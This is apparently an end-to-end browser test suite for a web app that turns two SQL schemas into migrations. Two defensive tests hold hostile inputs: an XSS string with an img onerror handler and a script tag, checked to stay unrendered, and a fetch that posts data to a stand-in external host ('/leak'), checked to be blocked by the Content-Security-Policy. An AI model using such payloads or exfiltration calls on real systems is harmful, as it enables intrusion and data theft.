// End-to-end tests of the built web app (web/dist) in headless Chromium.
// Run: cd web && trunk build --release --offline && cd e2e && npm ci && npm test
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile, writeFile, mkdir } from "node:fs/promises";
import { existsSync } from "node:fs";
import { execFileSync } from "node:child_process";
import path from "node:path";
import {
  REPO,
  ARTIFACTS,
  useAppServer,
  openPage,
  gotoApp,
  diffSeq,
  waitDiff,
  setEditor,
  setPair,
  selectTab,
  screenshot,
  editorText,
} from "./harness.js";

const env = useAppServer();

const CURRENT = "CREATE TABLE t (id integer PRIMARY KEY);\n";
const DESIRED = "CREATE TABLE t (\n  id integer PRIMARY KEY,\n  name text NOT NULL DEFAULT ''\n);\n";

/** What the CLI prints for a pair, when a CLI binary is around: the web app must agree. */
function cliOutput(current, desired, extra = []) {
  const candidates = [
    process.env.SCHEMASHIFT_CLI,
    path.join(REPO, "target/debug/schemashift"),
    path.join(REPO, "target/release/schemashift"),
  ].filter(Boolean);
  const bin = candidates.find((c) => existsSync(c));
  if (!bin) return null;
  const dir = path.join(ARTIFACTS, "cli-inputs");
  execFileSync("mkdir", ["-p", dir]);
  const a = path.join(dir, "current.sql");
  const b = path.join(dir, "desired.sql");
  execFileSync("sh", ["-c", 'cat > "$0"', a], { input: current });
  execFileSync("sh", ["-c", 'cat > "$0"', b], { input: desired });
  return execFileSync(bin, ["diff", a, b, ...extra], { encoding: "utf8" });
}

function assertClean(session) {
  assert.deepEqual(session.problems(), [], "page errors, console errors or foreign requests");
}

test("the page loads with the tasks example and shows its migration", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const up = await editorText(s.page, "output-up");
  assert.match(up, /ALTER TABLE task ADD COLUMN priority/);
  assert.match(up, /CREATE INDEX idx_task_priority/);
  // The footer says what the app is about.
  const footer = await s.page.textContent("footer");
  assert.match(footer, /runs entirely in your browser/);
  assert.match(footer, /v\d+\.\d+\.\d+/);
  // A CSP that only allows the page's own origin.
  const csp = await s.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
  // Syntax highlighting is in place: keywords are coloured spans.
  assert.ok((await s.page.locator(".cm-content .tk-kw").count()) > 5);
  await screenshot(s.page, "01-tasks-example");
  assertClean(s);
  await s.context.close();
});

test("pasting two schemas shows the Up, Down and Changes output", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  await setPair(s.page, CURRENT, DESIRED);

  const up = await editorText(s.page, "output-up");
  assert.equal(up, "ALTER TABLE t ADD COLUMN name text DEFAULT '' NOT NULL;\n");
  const cliUp = cliOutput(CURRENT, DESIRED);
  if (cliUp !== null) assert.equal(up, cliUp, "the web app and the CLI agree");

  await selectTab(s.page, "down");
  const down = await editorText(s.page, "output-down");
  assert.equal(down, "ALTER TABLE t DROP COLUMN name;\n");
  const cliDown = cliOutput(CURRENT, DESIRED, ["--down"]);
  if (cliDown !== null) assert.equal(down, cliDown);
  await screenshot(s.page, "02-down-sql");

  await selectTab(s.page, "changes");
  const item = s.page.locator(".change-list .change").first();
  assert.match(await item.textContent(), /add column public\.t\.name/);

  // The reverse pair: the change list marks the drop as destructive.
  await setPair(s.page, DESIRED, CURRENT);
  const destructive = s.page.locator(".change.destructive");
  assert.equal(await destructive.count(), 1);
  assert.match(await destructive.textContent(), /destructive/);
  await screenshot(s.page, "03-changes-destructive");

  // The Alembic tab: message and down-revision fields, the file named `<rev>_<slug>.py`.
  await selectTab(s.page, "alembic");
  await s.page.fill("#alembic-message", "Drop name from t");
  await s.page.fill("#alembic-down-revision", "0123456789ab");
  await s.page.fill("#alembic-revision", "ae1027a6acf0");
  await s.page.waitForFunction(() => {
    const py = schemashiftEditor.textOf(document.getElementById("output-alembic"));
    return py.includes("Revision ID: ae1027a6acf0") && py.includes("Revises: 0123456789ab");
  });
  assert.equal(await s.page.textContent("#alembic-filename"), "ae1027a6acf0_drop_name_from_t.py");
  const py = await editorText(s.page, "output-alembic");
  assert.match(py, /^"""Drop name from t\n\nRevision ID: ae1027a6acf0\nRevises: 0123456789ab\nCreate Date: \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}\n/);
  assert.match(py, /revision: str = 'ae1027a6acf0'/);
  assert.match(py, /down_revision: Union\[str, Sequence\[str\], None\] = '0123456789ab'/);
  // (The pair is reversed here: the upgrade drops the column, the downgrade adds it back.)
  assert.match(py, /def upgrade\(\) -> None:[\s\S]*op\.drop_column\('t', 'name'\)[\s\S]*def downgrade/);
  assert.match(py, /def downgrade\(\) -> None:[\s\S]*op\.add_column\('t', sa\.Column\('name'/);
  const [pyFile] = await Promise.all([s.page.waitForEvent("download"), s.page.click("#download")]);
  assert.equal(pyFile.suggestedFilename(), "ae1027a6acf0_drop_name_from_t.py");
  assert.equal(await readFile(await pyFile.path(), "utf8"), py);
  await screenshot(s.page, "03b-alembic-tab");
  assertClean(s);
  await s.context.close();
});

test("Alembic's version table is left out; the Leave out field excludes more, and Share keeps it", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const current = "CREATE TABLE alembic_version (version_num varchar(32) PRIMARY KEY);\nCREATE TABLE audit_log (id int);\nCREATE TABLE t (id int);\n";
  const desired = "CREATE TABLE t (id int, name text);\n";
  await setPair(s.page, current, desired);
  let up = await editorText(s.page, "output-up");
  assert.doesNotMatch(up, /alembic_version/);
  assert.match(up, /DROP TABLE audit_log/);
  assert.match(await s.page.textContent("#status"), /left out: public\.alembic_version/);
  const seq = await diffSeq(s.page);
  await s.page.fill("#exclude", "audit_*");
  await waitDiff(s.page, seq);
  up = await editorText(s.page, "output-up");
  assert.equal(up, "ALTER TABLE t ADD COLUMN name text;\n");
  assert.equal(up, cliOutput(current, desired, ["--exclude", "audit_*"]) ?? up, "the web app and the CLI agree");
  assert.match(await s.page.textContent("#status"), /left out: public\.alembic_version, public\.audit_log/);
  assertClean(s);
  await s.context.close();
});

test("a syntax error shows its line and column, is marked, and moves the cursor there", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const broken = "CREATE TABLE t (\n  id integer,,\n);\n";
  await setPair(s.page, CURRENT, broken);

  assert.equal(await s.page.getAttribute("#status", "data-state"), "error");
  const entry = s.page.locator("#diagnostics-desired .diag.err").first();
  assert.match(await entry.textContent(), /2:14 .*expected/);
  // Marked in the editor: the gutter line and a squiggle under the offending token.
  const editor = s.page.locator(".editor:has(#editor-desired)");
  const gutter = editor.locator(".cm-lineNumbers .gl.err");
  assert.equal(await gutter.textContent(), "2");
  // The squiggle (CodeMirror's lint range) is on line 2, under the second comma.
  const squiggles = editor.locator(".cm-line .cm-lintRange-error");
  assert.equal(await squiggles.count(), 1);
  assert.equal(await squiggles.textContent(), ",");
  assert.equal(await squiggles.evaluate((el) => el.closest(".cm-line").textContent), "  id integer,,");
  // The Up tab explains why there is no migration.
  assert.match(await s.page.textContent("#panel-up"), /errors/);

  await entry.click();
  const caret = await s.page.evaluate(() => {
    const ta = document.activeElement;
    return { id: ta.id, ...schemashiftEditor.selectionOf(ta) };
  });
  // Line 2, column 14: after "CREATE TABLE t (\n" (17 chars) and 13 more.
  assert.deepEqual(caret, { id: "editor-desired", start: 17 + 13, end: 17 + 13 });
  await screenshot(s.page, "04-syntax-error");
  assertClean(s);
  await s.context.close();
});

test("the editors (CodeMirror): undo, search, read-only outputs, styles within the CSP", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  // CodeMirror's styles are in a stylesheet the document adopted (CSSOM), not <style> elements
  // the CSP (style-src 'self') would refuse; and they apply.
  const css = await s.page.evaluate(() => ({
    styleElements: document.querySelectorAll("style").length,
    adoptedRules: document.adoptedStyleSheets.reduce((n, sh) => n + sh.cssRules.length, 0),
    display: getComputedStyle(document.querySelector(".cm-editor")).display,
  }));
  assert.equal(css.styleElements, 0);
  assert.ok(css.adoptedRules > 50, `${css.adoptedRules} adopted rules`);
  assert.equal(css.display, "flex");
  await setEditor(s.page, "editor-desired", "CREATE TABLE a (id int);\n");
  await s.page.focus("#editor-desired");
  await s.page.keyboard.press("Control+End");
  await s.page.keyboard.type("-- typed");
  assert.equal(await editorText(s.page, "editor-desired"), "CREATE TABLE a (id int);\n-- typed");
  await s.page.keyboard.press("Control+z");
  assert.equal(await editorText(s.page, "editor-desired"), "CREATE TABLE a (id int);\n");
  await s.page.keyboard.press("Control+f");
  await s.page.waitForSelector(".pane .cm-search input[name=search]");
  await s.page.keyboard.press("Escape");
  // The outputs take the focus and the selection but not edits.
  await s.page.focus("#output-up");
  const up = await editorText(s.page, "output-up");
  await s.page.keyboard.type("xyz");
  assert.equal(await editorText(s.page, "output-up"), up);
  assertClean(s);
  await s.context.close();
});

test("user text is never rendered as HTML", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const evil = `-- <img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>\nCREATE TABLE "<b>x</b>" (id int);\n`;
  await setPair(s.page, evil, CURRENT);
  assert.equal(await s.page.locator(".cm-content img, .cm-content script, .cm-content b").count(), 0);
  assert.match(await s.page.textContent(".editor .cm-content"), /<img src=x/);
  assert.notEqual(await s.page.title(), "pwned");
  assertClean(s);
  await s.context.close();
});

test("examples fill both editors; the dialect menu lists the core's dialects", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const options = await s.page.$$eval("#examples option", (os) =>
    os.map((o) => ({ value: o.value, disabled: o.disabled, text: o.textContent })),
  );
  const ids = options.map((o) => o.value);
  for (const id of ["tasks", "pgdump-vs-models", "sqlite-rebuild", "mariadb-dump"]) assert.ok(ids.includes(id), id);
  assert.ok(options.every((o) => !o.disabled), JSON.stringify(options));
  const dialects = await s.page.$$eval("#dialect option", (os) => os.map((o) => [o.value, o.textContent, o.disabled]));
  assert.deepEqual(dialects, [
    ["postgres", "PostgreSQL", false],
    ["sqlite", "SQLite", false],
    ["mysql", "MySQL", false],
    ["mariadb", "MariaDB", false],
  ]);

  // The SQLite example switches the dialect and shows a table rebuild.
  let seq = await diffSeq(s.page);
  await s.page.selectOption("#examples", "sqlite-rebuild");
  await waitDiff(s.page, seq);
  assert.equal(await s.page.inputValue("#dialect"), "sqlite");
  const rebuild = await editorText(s.page, "output-up");
  assert.match(rebuild, /INSERT INTO/);
  assert.match(rebuild, /RENAME TO/);
  await screenshot(s.page, "05a-example-sqlite-rebuild");

  seq = await diffSeq(s.page);
  await s.page.selectOption("#examples", "pgdump-vs-models");
  await waitDiff(s.page, seq);
  assert.equal(await s.page.inputValue("#dialect"), "postgres");
  assert.match(await editorText(s.page, "editor-current"), /PostgreSQL database dump/);
  assert.match(await editorText(s.page, "editor-desired"), /CREATE TYPE task_status/);
  const up = await editorText(s.page, "output-up");
  assert.match(up, /ADD COLUMN is_active/);
  assert.doesNotMatch(up, /SEQUENCE/, "pg_dump's sequences equal the models' serial columns");
  // The menu goes back to its prompt, so the same example can be loaded again.
  assert.equal(await s.page.inputValue("#examples"), "");
  await screenshot(s.page, "05-example-pgdump-vs-models");
  assertClean(s);
  await s.context.close();
});

test("Share puts the whole state in the link; a fresh page restores it", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const current = "-- shared ✓ ünïcode\nCREATE TABLE a (id int);\n";
  const desired = "CREATE TABLE a (id int, note text);\n";
  await setPair(s.page, current, desired);
  await selectTab(s.page, "down");
  await s.page.click("#share");
  const link = await s.page.inputValue("#share-link");
  assert.ok(link.startsWith(env.server.url + "#s="), link);
  assert.equal(await s.page.evaluate(() => location.hash), link.slice(link.indexOf("#")));
  await screenshot(s.page, "06-share");
  assertClean(s);
  await s.context.close();

  // A new context: no localStorage, nothing but the link.
  const t = await openPage(env.browser, env.server.url);
  await gotoApp(t.page, link);
  assert.equal(await editorText(t.page, "editor-current"), current);
  assert.equal(await editorText(t.page, "editor-desired"), desired);
  assert.equal(await t.page.getAttribute("#tab-down", "aria-selected"), "true");
  assert.equal(await t.page.inputValue("#dialect"), "postgres");
  assert.equal(await editorText(t.page, "output-down"), "ALTER TABLE a DROP COLUMN note;\n");
  assertClean(t);
  await t.context.close();
});

test("a damaged link says so and the page still works", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url + "#s=not-a-state");
  assert.match(await s.page.textContent("#notice-text"), /Could not open the shared link/);
  assert.match(await editorText(s.page, "output-up"), /priority/);
  assertClean(s);
  await s.context.close();
});

test("the state is autosaved and restored on reload", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  await setPair(s.page, CURRENT, DESIRED);
  await s.page.waitForFunction(() => localStorage.getItem("schemashift.state.v1") !== null);
  // Wait for the autosave of this edit (it is debounced).
  await s.page.waitForTimeout(1500);
  await s.page.reload();
  await s.page.waitForSelector("#editor-current");
  await waitDiff(s.page, 0);
  assert.equal(await editorText(s.page, "editor-current"), CURRENT);
  assert.equal(await editorText(s.page, "editor-desired"), DESIRED);
  assertClean(s);
  await s.context.close();
});

test("dark mode follows the system and the toggle overrides it", async () => {
  const bg = (page) => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const light = await openPage(env.browser, env.server.url, { colorScheme: "light" });
  await gotoApp(light.page, env.server.url);
  const lightBg = await bg(light.page);
  assert.equal(await light.page.getAttribute("#theme-toggle", "aria-pressed"), "false");
  await light.page.click("#theme-toggle");
  assert.equal(await light.page.getAttribute("html", "data-theme"), "dark");
  assert.equal(await light.page.getAttribute("#theme-toggle", "aria-pressed"), "true");
  const darkBg = await bg(light.page);
  assert.notEqual(darkBg, lightBg);
  await screenshot(light.page, "07-dark-mode");
  // The choice sticks across reloads.
  await light.page.reload();
  await light.page.waitForSelector("#editor-current");
  assert.equal(await bg(light.page), darkBg);
  assertClean(light);
  await light.context.close();

  const dark = await openPage(env.browser, env.server.url, { colorScheme: "dark" });
  await gotoApp(dark.page, env.server.url);
  assert.equal(await bg(dark.page), darkBg, "a dark system gets the dark theme without a click");
  assert.equal(await dark.page.getAttribute("#theme-toggle", "aria-pressed"), "true");
  assertClean(dark);
  await dark.context.close();
});

test("Copy and Download give the migration text", async () => {
  const s = await openPage(env.browser, env.server.url, { permissions: ["clipboard-read", "clipboard-write"] });
  await gotoApp(s.page, env.server.url);
  await setPair(s.page, CURRENT, DESIRED);
  await s.page.click("#copy");
  const clip = await s.page.evaluate(() => navigator.clipboard.readText());
  assert.equal(clip, "ALTER TABLE t ADD COLUMN name text DEFAULT '' NOT NULL;\n");

  const [download] = await Promise.all([s.page.waitForEvent("download"), s.page.click("#download")]);
  assert.equal(download.suggestedFilename(), "migration_up.sql");
  const body = await readFile(await download.path(), "utf8");
  assert.equal(body, clip);

  await selectTab(s.page, "changes");
  const [json] = await Promise.all([s.page.waitForEvent("download"), s.page.click("#download")]);
  assert.equal(json.suggestedFilename(), "changes.json");
  const report = JSON.parse(await readFile(await json.path(), "utf8"));
  assert.equal(report.changes[0].summary, "add column public.t.name");
  assertClean(s);
  await s.context.close();
});

test("keyboard: tabs move with the arrow keys, everything is reachable", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  await s.page.focus("#tab-up");
  await s.page.keyboard.press("ArrowRight");
  assert.equal(await s.page.getAttribute("#tab-down", "aria-selected"), "true");
  assert.equal(await s.page.evaluate(() => document.activeElement.id), "tab-down");
  await s.page.keyboard.press("ArrowRight");
  assert.equal(await s.page.getAttribute("#tab-changes", "aria-selected"), "true");
  await s.page.keyboard.press("ArrowRight"); // wraps to the first tab
  assert.equal(await s.page.getAttribute("#tab-alembic", "aria-selected"), "true");
  await s.page.keyboard.press("End");
  assert.equal(await s.page.getAttribute("#tab-changes", "aria-selected"), "true");
  await s.page.keyboard.press("Home");
  assert.equal(await s.page.getAttribute("#tab-alembic", "aria-selected"), "true");
  // Tab from the first editor reaches the second (no focus trap in the editors).
  await s.page.focus("#editor-current");
  await s.page.keyboard.press("Tab");
  const next = await s.page.evaluate(() => document.activeElement.id || document.activeElement.tagName);
  assert.notEqual(next, "editor-current");
  assertClean(s);
  await s.context.close();
});

test("the layout fits a phone and a 1280 px screen without sideways scrolling", async () => {
  for (const [name, viewport] of [
    ["phone", { width: 390, height: 844 }],
    ["tablet", { width: 820, height: 1000 }],
    ["desktop", { width: 1280, height: 900 }],
  ]) {
    const s = await openPage(env.browser, env.server.url, { viewport, isMobile: name === "phone" });
    await gotoApp(s.page, env.server.url);
    const overflow = await s.page.evaluate((w) => document.documentElement.scrollWidth - w, viewport.width);
    assert.ok(overflow <= 0, `${name}: page is ${overflow}px wider than the screen`);
    await screenshot(s.page, `08-layout-${name}`);
    assertClean(s);
    await s.context.close();
  }
});

test("the diff runs in a worker: typing stays responsive while a big diff runs", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  // ~1.6 MB a side: the diff takes seconds, far longer than any frame may.
  const table = (i) =>
    `CREATE TABLE t${i} (\n  id integer PRIMARY KEY,\n  name text NOT NULL,\n  note varchar(200),\n  created_at timestamptz DEFAULT now()\n);\nCREATE INDEX t${i}_name ON t${i} (name);\n`;
  const big = Array.from({ length: 12000 }, (_, i) => table(i)).join("");
  await setPair(s.page, big, big + "CREATE TABLE extra (id int);\n");
  assert.match(await editorText(s.page, "output-up"), /CREATE TABLE extra/);

  // Edit; once the debounce is over the diff of the edited text runs in the worker. From then
  // on every frame is watched while we keep typing; each keystroke is timed from its input
  // event to the next frame.
  const seq = await diffSeq(s.page);
  await s.page.focus("#editor-desired");
  await s.page.keyboard.press("Control+End");
  await s.page.keyboard.type("CREATE TABLE x (");
  await s.page.waitForTimeout(350);
  await s.page.evaluate(() => {
    window.__gaps = [];
    let last = performance.now();
    const loop = () => {
      const now = performance.now();
      window.__gaps.push(now - last);
      last = now;
      if (!window.__stopFrames) requestAnimationFrame(loop);
    };
    requestAnimationFrame(loop);
  });
  const keys = [];
  let sawPending = false;
  for (const key of ["a", " ", "i", "n", "t", ")", ";"]) {
    await s.page.evaluate(() => {
      window.__keystroke = null;
      document.getElementById("editor-desired").addEventListener(
        "input",
        (e) => requestAnimationFrame(() => (window.__keystroke = performance.now() - e.timeStamp)),
        { once: true },
      );
    });
    sawPending ||= (await s.page.getAttribute("#status", "data-state")) === "pending";
    await s.page.keyboard.press(key);
    await s.page.waitForFunction(() => window.__keystroke !== null);
    keys.push(await s.page.evaluate(() => window.__keystroke));
  }
  await waitDiff(s.page, seq, 120000);
  const gaps = await s.page.evaluate(() => {
    window.__stopFrames = true;
    return window.__gaps;
  });
  const diffMs = Number(await s.page.getAttribute("#status", "data-diff-ms"));
  assert.match(await editorText(s.page, "editor-desired"), /CREATE TABLE x \(a int\);$/);
  assert.match(await editorText(s.page, "output-up"), /CREATE TABLE x/);
  const figures = {
    bytes_per_side: big.length,
    diff_round_trip_ms: diffMs,
    keystroke_ms: keys,
    longest_frame_gap_ms: Math.max(...gaps),
    frames: gaps.length,
    saw_pending_while_typing: sawPending,
  };
  await mkdir(ARTIFACTS, { recursive: true });
  await writeFile(path.join(ARTIFACTS, "typing-during-diff.json"), JSON.stringify(figures, null, 2) + "\n");
  await screenshot(s.page, "10-big-schema");
  assert.ok(sawPending, "the keystrokes were typed while a diff was pending");
  assert.ok(Math.max(...keys) < 300, `a keystroke took ${Math.max(...keys)} ms: ${JSON.stringify(figures)}`);
  // The proof that the diff is off the main thread: it took far longer than any frame gap.
  // Had the diff run on the page, one frame would have waited for all of it: every gap is
  // shorter than the diff (typing a key into 2 MB of text costs ~30-200 ms by itself).
  assert.ok(figures.longest_frame_gap_ms < diffMs, JSON.stringify(figures));
  assertClean(s);
  await s.context.close();
});

test("the Content-Security-Policy blocks any connection outside the page's origin", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  // The diff worker is running, from the page's origin.
  const workers = s.page.workers();
  assert.equal(workers.length, 1, "one diff worker");
  assert.ok(workers[0].url().startsWith(env.server.url + "worker.js?"), workers[0].url());
  const attempt = (where) =>
    where.evaluate(async () => {
      const violations = [];
      self.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
      let outcome;
      try {
        await fetch("http://192.0.2.1:9/leak", { method: "POST", body: "schema" });
        outcome = "sent";
      } catch (e) {
        outcome = "blocked";
      }
      await new Promise((r) => setTimeout(r, 50));
      return { outcome, violations };
    });
  for (const [name, where] of [["page", s.page], ["worker", workers[0]]]) {
    const r = await attempt(where);
    assert.equal(r.outcome, "blocked", name);
    assert.ok(r.violations.length > 0 && r.violations.every((d) => d === "connect-src"), `${name}: ${JSON.stringify(r)}`);
  }
  // Every request the page and its worker made stayed on the origin (the blocked ones never
  // reached the network, so they are not requests).
  const foreign = s.requests().filter((u) => !(u.startsWith(env.server.url) || u.startsWith("blob:") || u.startsWith("data:")));
  assert.deepEqual(foreign, []);
  assert.ok(s.requests().some((u) => u.includes("worker.js")), "the worker's own requests are watched too");
  // Only the two refusals were logged.
  assert.ok(s.problems().every((p) => /Content Security Policy|Refused to connect|Failed to fetch/.test(p)), s.problems().join("\n"));
  await s.context.close();
});

test("a paste, a dropped or opened file and an example diff at once; typing waits for the debounce", async () => {
  const s = await openPage(env.browser, env.server.url);
  await gotoApp(s.page, env.server.url);
  const waited = () => s.page.getAttribute("#status", "data-waited-ms");
  // A paste: no keystrokes follow it, so the diff does not wait.
  let seq = await diffSeq(s.page);
  await setEditor(s.page, "editor-desired", DESIRED);
  await waitDiff(s.page, seq);
  assert.equal(await waited(), "0");
  // A keystroke: the diff waits until typing pauses.
  seq = await diffSeq(s.page);
  await s.page.focus("#editor-desired");
  await s.page.keyboard.press("Control+End");
  await s.page.keyboard.type("-- x");
  await waitDiff(s.page, seq);
  assert.equal(await waited(), "250");
  // An opened file and an example: at once again.
  seq = await diffSeq(s.page);
  await s.page.setInputFiles("#open-current", { name: "c.sql", mimeType: "application/sql", buffer: Buffer.from(CURRENT) });
  await s.page.waitForFunction((c) => schemashiftEditor.textOf(document.getElementById("editor-current")) === c, CURRENT);
  await waitDiff(s.page, seq);
  assert.equal(await waited(), "0");
  seq = await diffSeq(s.page);
  await s.page.selectOption("#examples", "tasks");
  await waitDiff(s.page, seq);
  assert.equal(await waited(), "0");
  assert.deepEqual(s.problems(), []);
  await s.context.close();
});
